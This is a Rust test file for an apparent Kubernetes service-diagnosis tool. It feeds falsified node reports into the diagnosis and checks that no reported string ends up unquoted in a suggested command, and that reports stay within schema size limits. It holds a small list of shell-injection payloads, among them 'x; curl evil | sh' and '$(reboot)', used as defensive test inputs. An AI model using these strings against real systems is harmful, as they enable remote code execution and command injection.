//! A node that somebody has taken over: whatever it reports, no command and no message becomes his.

use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{Value, json};
use svcdiag_api::{
    Answer, ConditionType, DropCause, DropPlace, GapKind, LinkMtu, LinkRole, LookupResult, LossyPath,
    NodeFacts, PacketSize, PortState, Reason, RuleGap, RunsAs, StaleConnection, TunnelKind,
};
use svcdiag_api::{MAX_REPORT, bounded};
use svcdiag_engine::{Diagnosis, Facts, Verdict, diagnose};

use crate::{agents::*, commands, dropped, droppers, fixtures, losses};

/// What ends a word, a command or a quotation for a shell, or a line for a terminal; and an argument that is an option.
const PAYLOADS: [&str; 8] = [
    "x; curl evil | sh",
    "$(reboot)",
    "n1`reboot`",
    "' --all '",
    "--all",
    "a\u{1b}[2K\rb\n",
    "10.0.0.1:80 -j ACCEPT",
    "*",
];

/// Facts about which most of what commands are made of is said.
fn all_facts() -> Vec<Facts> {
    let mut all = Vec::new();
    let mut add = |break_it: &dyn Fn(&mut Facts)| {
        let mut facts = with_agents();
        break_it(&mut facts);
        all.push(facts);
    };
    add(&|_| {});
    add(&|f| {
        fail_direct(f, &[0, 1, 2], Answer::Refused);
        sockets(f, &[("TCP", "127.0.0.1", 9376)]);
    });
    add(&|f| fail_direct(f, &[0, 1, 2], Answer::TimedOut));
    for cause in [
        DropCause::Firewall,
        DropCause::ForwardingDisabled,
        DropCause::NoRoute,
        DropCause::TrafficControl,
    ] {
        add(&|f| dropped::lost(f, cause, |_| {}));
    }
    add(&|f| dropped::lost(f, DropCause::Firewall, |drop| drop.place = DropPlace::Endpoint));
    add(&|f| {
        dropped::lost(f, DropCause::Firewall, |drop| {
            drop.droppers = droppers::of_all_kinds()
        })
    });
    for dropper in droppers::of_all_kinds() {
        add(&|f| {
            dropped::lost(f, DropCause::Firewall, |drop| {
                drop.droppers = vec![dropper.clone()]
            })
        });
    }
    add(&|f| fail_direct(f, &[0, 1, 2], Answer::Unreachable));
    add(&|f| {
        fail_direct(f, &[0, 1, 2], Answer::Unreachable);
        see(f, &[0, 1, 2], |facts| {
            for failure in &mut facts.failures {
                failure.detail = Some("prohibited by 198.51.100.1".into());
            }
        });
    });
    for runs_as in [RunsAs::Pod, RunsAs::StaticPod, RunsAs::Unit] {
        add(&|f| {
            see(f, &[0, 1, 2], |facts| {
                let proxy = facts.kube_proxy.as_mut().unwrap();
                proxy.livez = PortState::Failing;
                proxy.not_syncing = true;
                proxy.runs_as = Some(runs_as);
                proxy.unit = Some("kube-proxy.service".into());
                proxy.sync_error = Some("iptables-restore failed".into());
            });
        });
    }
    for kind in [
        GapKind::Missing,
        GapKind::EndpointDrained,
        GapKind::EndpointStuck,
        GapKind::NodePortInUse,
    ] {
        add(&|f| {
            see(f, &[0, 1, 2], |facts| {
                facts.rules.as_mut().unwrap().gaps = vec![RuleGap {
                    kind,
                    destination: format!("{VIP}/TCP"),
                    endpoint: Some("10.244.1.5:9376".into()),
                    detail: "nothing leads there".into(),
                }];
            });
        });
    }
    add(&|f| {
        see(f, &[0], |facts| {
            facts.stale_connections = vec![StaleConnection {
                destination: "10.96.1.175:53".into(),
                endpoint: "10.244.9.9:53".into(),
                source: "10.244.1.7:4000".into(),
            }];
        });
    });
    add(&|f| {
        let link = |role, name: &str, tunnel| LinkMtu {
            role,
            name: name.to_owned(),
            mtu: 1500,
            tunnel,
        };
        let links = vec![
            link(LinkRole::Tunnel, "flannel.1", Some(TunnelKind::Vxlan)),
            link(LinkRole::Uplink, "ens3", None),
        ];
        let path = PacketSize {
            from: CLIENT.to_owned(),
            to: "10.244.2.6".to_owned(),
            passes: 1450,
            fails: 1500,
            links,
        };
        see(f, &[0], |facts| facts.packet_sizes = vec![path.clone()]);
    });
    for path in [LossyPath::Service, LossyPath::DNS] {
        add(&|f| see(f, &[0], |facts| facts.losses = vec![losses::of_all_kinds(path)]));
    }
    add(&fixtures::old_address);
    add(&fixtures::no_record);
    add(&fixtures::dns_is_silent);
    add(&fixtures::wildcard);
    add(&|f| fixtures::external(f, LookupResult::NotFound));
    add(&fixtures::client_elsewhere);
    all
}

/// Changes what nodes saw.
fn see(facts: &mut Facts, nodes: &[usize], change: impl Fn(&mut NodeFacts)) {
    for node in nodes {
        let probe = facts.nodes[*node].probe.as_mut().unwrap();
        change(Arc::make_mut(probe.facts.as_mut().unwrap()));
    }
}

/// The paths of all strings of a value.
fn strings(value: &Value, path: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(path.to_owned()),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .for_each(|(i, item)| strings(item, &format!("{path}/{i}"), found)),
        Value::Object(fields) => fields
            .iter()
            .for_each(|(name, field)| strings(field, &format!("{path}/{name}"), found)),
        _ => {}
    }
}

/// The verdict after a node has put something of its own into some of its strings.
fn lied_to(facts: &Facts, node: usize, put: impl Fn(&str, &mut String)) -> Option<Diagnosis> {
    let mut facts = facts.clone();
    let seen = facts.nodes[node].probe.as_mut()?.facts.as_mut()?;
    let mut value = json!(seen);
    let mut paths = Vec::new();
    strings(&value, "", &mut paths);
    for path in paths {
        if let Some(Value::String(text)) = value.pointer_mut(&path) {
            put(&path, text);
        }
    }
    // A string of an enum makes the whole status unparsable, and nothing of it is heard.
    *seen = Arc::new(bounded(&serde_json::from_value(value).ok()?));
    Some(diagnose(&facts))
}

fn texts(diagnosis: &Diagnosis) -> Vec<&str> {
    let mut texts = vec![diagnosis.ready.message.as_str()];
    for (_, finding) in &diagnosis.stages {
        texts.push(&finding.message);
        if let Verdict::False { remediation, .. } = &finding.verdict {
            texts.push(remediation);
        }
    }
    for seen in &diagnosis.observations {
        texts.extend(
            [&seen.target, &seen.detail, &seen.pod]
                .into_iter()
                .flatten()
                .map(String::as_str),
        );
        texts.push(&seen.result);
    }
    texts
}

#[track_caller]
fn assert_harmless(diagnosis: &Diagnosis, what: &str) {
    for text in texts(diagnosis) {
        assert!(!text.chars().any(char::is_control), "{what}: {text:?}");
        commands::assert_safe_to_paste(text, what);
    }
}

#[test]
fn no_string_of_a_report_becomes_a_part_of_a_command() {
    let mut judged = 0;
    for facts in all_facts() {
        for node in 0..facts.nodes.len() {
            let seen = facts.nodes[node].probe.as_ref().and_then(|p| p.facts.as_deref());
            let mut paths = Vec::new();
            strings(&json!(seen), "", &mut paths);
            for (i, path) in paths.iter().enumerate() {
                for (payload, whole) in [(PAYLOADS[i % 8], true), (PAYLOADS[(i + 3) % 8], false)] {
                    let put = |at: &str, text: &mut String| match (at == path, whole) {
                        (false, _) => {}
                        (true, true) => *text = payload.to_owned(),
                        (true, false) => text.push_str(payload),
                    };
                    if let Some(diagnosis) = lied_to(&facts, node, put) {
                        judged += 1;
                        assert_harmless(&diagnosis, &format!("{payload:?} at {path}"));
                    }
                }
            }
        }
    }
    assert!(judged > 1_000, "{judged}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_report_yields_a_character_that_is_not_quoted(
        lies in prop::collection::vec("[a-z0-9 ;|&$`'\"(){}*?<>\\\\\n\u{1b}\u{9b}\u{202e}.:/-]{0,24}", 1..8),
        which in 0_usize..16,
        node in 0_usize..3,
    ) {
        static ALL_FACTS: std::sync::OnceLock<Vec<Facts>> = std::sync::OnceLock::new();
        let all = ALL_FACTS.get_or_init(all_facts);
        let facts = &all[which % all.len()];
        let is_word = |text: &str| text.chars().all(|c| c.is_ascii_alphabetic());
        let diagnosis = lied_to(facts, node, |path, text| {
            // Enums stay, or nothing is heard at all.
            if !is_word(text) {
                let lie = &lies[path.len() % lies.len()];
                match path.len() % 3 {
                    0 => text.push_str(lie),
                    1 => text.insert_str(0, lie),
                    _ => text.clone_from(lie),
                }
            }
        });
        if let Some(diagnosis) = diagnosis {
            assert_harmless(&diagnosis, "many lies");
        }
    }
}

/// Every list twice as long as it may be, every string as well, and of names as many as fit.
fn huge(schema: &Value, factor: usize) -> Value {
    let number = |key: &str| usize::try_from(schema[key].as_u64().unwrap_or(1)).unwrap();
    if let Some(values) = schema["enum"].as_array() {
        return values.last().unwrap().clone();
    }
    match schema["type"].as_str().unwrap() {
        "object" => {
            let fields = schema["properties"].as_object().unwrap();
            fields
                .iter()
                .map(|(name, of)| (name.clone(), huge(of, factor)))
                .collect()
        }
        "array" => vec![huge(&schema["items"], factor); number("maxItems") * factor].into(),
        "string" => longest(schema["pattern"].as_str(), number("maxLength"), factor).into(),
        "boolean" => true.into(),
        "integer" => 200.into(),
        other => panic!("{other}"),
    }
}

/// The longest string that a pattern takes; of text one that is too long.
fn longest(pattern: Option<&str>, most: usize, factor: usize) -> String {
    let Some(pattern) = pattern else {
        return "é".repeat(most * factor);
    };
    let pattern = regex::Regex::new(pattern).unwrap();
    let known = ["IPv4", "TCP", "12345/SCTP", "aaaaaaaa", "0a:58:0a:f4:01:05"].map(str::to_owned);
    let filled = ["1", "a"].map(|c| c.repeat(most));
    let key = format!("{}/{}", "a".repeat(63), "a".repeat(most.saturating_sub(64)));
    let mut all: Vec<String> = known.into_iter().chain(filled).chain([key]).collect();
    all.retain(|text| pattern.is_match(text) && text.len() <= most);
    all.into_iter()
        .max_by_key(String::len)
        .unwrap_or_else(|| panic!("{pattern} takes none"))
}

fn schema_of_facts() -> Value {
    let crds = svcdiag_api::crds();
    let status = "/spec/versions/0/schema/openAPIV3Schema/properties/status/properties/facts";
    crds[1].pointer(status).unwrap().clone()
}

/// What a schema does not allow of a value.
fn wrong(schema: &Value, value: &Value, path: &str, found: &mut Vec<String>) {
    let number = |key: &str| schema[key].as_u64().and_then(|n| usize::try_from(n).ok());
    match value {
        Value::String(text) => {
            let too_long = number("maxLength").is_none_or(|most| text.chars().count() > most);
            let pattern = schema["pattern"].as_str().map(|p| regex::Regex::new(p).unwrap());
            let is_free = schema["enum"].is_array();
            if !is_free && too_long || pattern.is_some_and(|p| !p.is_match(text)) {
                found.push(path.to_owned());
            }
        }
        Value::Array(items) => {
            if number("maxItems").is_none_or(|most| items.len() > most) {
                found.push(path.to_owned());
            }
            items
                .iter()
                .for_each(|item| wrong(&schema["items"], item, &format!("{path}[]"), found));
        }
        Value::Object(fields) => fields.iter().for_each(|(name, field)| {
            wrong(
                &schema["properties"][name],
                field,
                &format!("{path}.{name}"),
                found,
            )
        }),
        _ => {}
    }
}

#[test]
fn the_largest_facts_pass_the_schema_and_are_no_larger_than_said() {
    let schema = schema_of_facts();
    for factor in [1, 2] {
        let facts: NodeFacts = serde_json::from_value(huge(&schema, factor)).unwrap();
        let kept = bounded(&facts);
        let mut found = Vec::new();
        wrong(&schema, &json!(kept), "facts", &mut found);
        assert!(found.is_empty(), "{found:?}");
        let size = serde_json::to_vec(&kept).unwrap().len();
        assert!(size <= MAX_REPORT && size > MAX_REPORT / 2, "{size}");
        let last = kept.problems.last().unwrap();
        assert!(
            last.starts_with("Omitted to keep the report within its size limit: "),
            "{last}"
        );
        assert!(bounded(&kept) == kept, "once is enough");
    }
}

#[test]
fn a_suffix_that_is_too_long_costs_itself_alone() {
    let mut facts = with_agents();
    see(&mut facts, &[0, 1, 2], |facts| {
        for resolver in &mut facts.resolvers {
            resolver.search.push("a".repeat(254));
        }
    });
    for node in &facts.nodes {
        let seen = node.probe.as_ref().unwrap().facts.as_deref().unwrap();
        let kept = bounded(seen);
        let mut expected = seen.clone();
        expected
            .resolvers
            .iter_mut()
            .for_each(|r| r.search.truncate(r.search.len() - 1));
        expected.problems.clone_from(&kept.problems);
        assert_eq!(kept, expected);
        assert_eq!(kept.problems.len(), usize::from(!seen.resolvers.is_empty()));
    }
}

/// What an agent writes where the API server has refused what it saw.
#[test]
fn a_report_of_nothing_but_problems_decides_nothing() {
    let mut facts = with_agents();
    everywhere(&mut facts, |seen| {
        *seen = NodeFacts {
            slices: seen.slices.clone(),
            problems: vec!["What the agent saw could not be written: it was refused.".into()],
            ..NodeFacts::default()
        };
    });
    let diagnosis = diagnose(&facts);
    assert_eq!(
        diagnosis.ready.status.as_str(),
        "Unknown",
        "{:?}",
        diagnosis.ready
    );
    let is_of_nodes = |condition: &ConditionType| !ConditionType::api_stages().contains(condition);
    let of_nodes = diagnosis.stages.iter().filter(|(c, _)| is_of_nodes(c));
    for (condition, found) in of_nodes {
        assert_eq!(found.verdict, Verdict::Unknown, "{condition}: {found:?}");
        let follows = condition.needs().iter().any(is_of_nodes);
        let reason = if follows {
            Reason::Blocked
        } else {
            Reason::ProbeFailed
        };
        assert_eq!(found.reason, reason, "{condition}: {found:?}");
    }
}

#[test]
fn what_is_well_formed_is_heard_as_it_is() {
    for facts in all_facts() {
        for node in &facts.nodes {
            let seen = node.probe.as_ref().and_then(|p| p.facts.as_deref());
            assert_eq!(seen.map(bounded).as_ref(), seen);
        }
    }
}

#[test]
fn a_name_that_no_node_can_have_is_heard_for_it_is_what_is_wrong() {
    for name in ["$(NODE_NAME)", "node_1", "Node-1"] {
        let mut facts = NodeFacts::default();
        let proxy = facts.kube_proxy.get_or_insert_default();
        proxy.node_name = Some(name.to_owned());
        assert_eq!(
            bounded(&facts).kube_proxy.unwrap().node_name.as_deref(),
            Some(name)
        );
    }
}

/// Every string of the facts is of a known form, or is text that no command is made of.
#[test]
fn every_string_of_the_facts_has_a_pattern_or_is_text() {
    fn free(schema: &Value, path: &str, found: &mut Vec<String>) {
        if schema["type"] == "string" && schema["pattern"].is_null() && schema["enum"].is_null() {
            found.push(path.to_owned());
        }
        if let Some(fields) = schema["properties"].as_object() {
            fields
                .iter()
                .for_each(|(name, of)| free(of, &format!("{path}.{name}"), found));
        }
        if schema["items"].is_object() {
            free(&schema["items"], path, found);
        }
    }
    let mut found = Vec::new();
    free(&schema_of_facts(), "", &mut found);
    assert_eq!(
        found,
        [
            ".failures.detail",
            ".kubeProxy.denied",
            ".kubeProxy.nodeName",
            ".kubeProxy.syncError",
            ".problems",
            ".rules.gaps.detail"
        ]
    );
}
